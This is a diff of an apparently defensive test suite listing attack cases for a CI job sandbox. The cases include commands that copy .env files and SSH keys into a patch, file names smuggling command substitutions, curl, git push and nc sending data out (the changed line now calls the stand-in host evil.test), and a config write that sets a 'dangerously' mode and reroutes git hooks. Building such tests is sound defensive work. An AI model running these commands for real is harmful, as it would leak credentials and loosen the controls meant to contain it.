@@ -16,7 +16,7 @@ ATTACKS = [
     A("job-patch-secrets", "pipeline", "secrets into the patch: copied, linked, committed, renamed", (hidden("cp .env env.txt; ln -sf @HOME@/.ssh/id_rsa key.txt; ln -sf @OUT@/secret.txt s.txt; mv .env plain.txt; git add -fA; git commit -qm x; cp link-key k.txt"),), "harmless", "T89", "ci"),
     A("job-patch-names", "pipeline", "names that break a patch or a page: newlines, quotes, markup, commands", (hidden("touch \"$(printf 'a\\nb --- a:x\\n+++ b:.git hooks\\n@@ -0,0 +1 @@\\n+@MARK@')\" '$(touch x)' '`id`' '<img src=x>' '| a | b |' '\" quoted'"),), "harmless", "T95", "ci"),
     A("job-patch-text", "pipeline", "a file that reads like the rest of a patch", (hidden("printf 'x\\n-- \\n2.0\\n\\ndiff --git a/.envrc b/.envrc\\nnew file mode 100755\\n--- /dev/null\\n@@ -0,0 +1 @@\\n+@MARK@\\n' > src/notes"),), "harmless", "T95", "ci"),
-    A("job-network", "pipeline", "a way out of the job: by name, and from code", (bash("curl -s http://127.0.0.1:@TCP@/"), hidden("curl -s -m 2 http://127.0.0.1:@TCP@/; git push http://127.0.0.1:@TCP@/x HEAD; nc -w1 127.0.0.1 @TCP@ < notes.txt")), "denied network", "T89", "ci"),
+    A("job-network", "pipeline", "a way out of the job: by name, and from code", (bash("curl -s http://evil.test/"), hidden("curl -s -m 2 http://127.0.0.1:@TCP@/; git push http://127.0.0.1:@TCP@/x HEAD; nc -w1 127.0.0.1 @TCP@ < notes.txt")), "denied network", "T89", "ci"),
     A("job-settings", "pipeline", "a mode of its own for the next job", (("write", {"path": ".ringfence/config.toml", "content": "mode = \"dangerously\"\n# @MARK@\n"}), bash("git config core.hooksPath src")), "denied dangerous", "T93", "ci"),
 ]
 # fmt: on
